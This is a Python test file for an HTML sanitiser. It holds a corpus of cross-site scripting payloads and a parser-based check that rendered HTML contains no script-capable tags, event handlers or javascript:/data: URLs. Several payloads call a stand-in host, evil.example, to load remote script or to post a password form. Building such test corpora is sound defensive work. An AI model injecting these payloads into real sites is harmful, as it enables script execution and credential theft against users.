"""Script-injection payloads, and a check that a piece of HTML can run none of them."""

from html.parser import HTMLParser

XSS_CORPUS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me](&#106;avascript:alert(1))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    '<a href="https://example.org" onclick="alert(1)">a link</a>',
    '<img src="x" onerror="alert(1)">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload="alert(1)"><circle r="5"></circle></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<div><p>unclosed <b>bold <a href="javascript:alert(1)">x',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    '"><img src=x onerror=alert(1)>',
]

DANGEROUS_TAGS = {"script", "iframe", "frame", "svg", "math", "object", "embed", "form", "input", "style", "link",
                  "meta", "base"}  # fmt: skip


class _ElementAudit(HTMLParser):
    """Collects what the browser would treat as markup: elements and their attributes (not escaped text)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name == "style":
                self.problems.append(f"{name}= on <{tag}>")
            if name in {"href", "src", "action", "formaction"} and value.startswith(
                ("javascript:", "data:", "vbscript:")
            ):
                self.problems.append(f"{name}={value!r} on <{tag}>")

    handle_startendtag = handle_starttag


def assert_inert(html):
    """No element, attribute or URL in `html` can run script. Escaped text is fine: it is only text."""
    audit = _ElementAudit()
    audit.feed(html)
    audit.close()
    assert not audit.problems, f"{audit.problems} in {html!r}"
